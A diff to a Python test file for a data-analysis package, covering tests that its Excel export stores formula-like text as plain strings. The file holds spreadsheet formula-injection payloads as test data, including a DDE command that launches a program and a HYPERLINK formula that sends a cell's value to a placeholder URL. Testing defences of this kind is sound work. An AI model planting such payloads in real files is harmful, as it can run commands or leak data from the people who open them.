@@ -27,7 +27,7 @@ from openpyxl import load_workbook  # noqa: E402
 import gxanalysis.spreadsheet  # noqa: E402
 from gxanalysis import config  # noqa: E402
 from gxanalysis.errors import ReportError  # noqa: E402
-from gxanalysis.reporting.export import write_workbook  # noqa: E402
+from gxanalysis.reporting.workbook import write_workbook  # noqa: E402
 from gxanalysis.spreadsheet import csv_safe, csv_safe_frame, is_formula_like  # noqa: E402
 
 PAYLOADS = ['=HYPERLINK("http://x"&B5,"n")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3", "$\\alpha$",
@@ -108,10 +108,11 @@ def test_workbook_writes_every_text_as_a_string_cell_shown_as_typed(tmp_path):
                           cover_lines=[("@x", "=cmd|' /C calc'!A0")])
     assert _formula_cells(path) == []
     wb = load_workbook(path)
-    ws = wb.worksheets[1]
+    ws = wb.worksheets[2]  # after the cover and the contents
     shown = [ws.cell(row=r, column=1).value for r in range(5, 5 + len(TEXT_PAYLOADS))]
-    # the text itself is kept, with no visible apostrophe (XML reads a lone CR back as a line feed)
-    assert shown == [t.replace("\r", "\n") for t in TEXT_PAYLOADS]
+    # the text itself is kept, with no visible apostrophe (a CR is stored as OOXML's escape _x000D_, which
+    # Excel reads back as CR; openpyxl leaves the escape as it is)
+    assert [v.replace("_x000D_", "\r") for v in shown] == TEXT_PAYLOADS
     assert all(ws.cell(row=r, column=1).quotePrefix for r in range(5, 5 + len(TEXT_PAYLOADS))
                if is_formula_like(ws.cell(row=r, column=1).value))
     assert ws.cell(row=5, column=2).value == -1.5 and ws.cell(row=5, column=2).data_type == "n"
@@ -160,6 +161,10 @@ def test_workbook_of_every_section_over_hostile_data_has_no_formula_cell(hostile
             elif hasattr(item, "savefig"):
                 item.savefig(io.BytesIO(), format="png")
     tables = recorded_tables(tmp_path, list(SECTIONS))
+    from gxanalysis.labels import SHEETS
+
+    assert {t["name"] for t in tables} <= set(SHEETS), "every table has a short sheet name"
+    assert all(t["formats"] and len(t["formats"]) == len(t["columns"]) for t in tables), "every column's format"
     path = write_workbook(tables, tmp_path / "wb.xlsx", title="t", period_label="p", cover_lines=[])
     assert _formula_cells(path) == []
     wb = load_workbook(path)
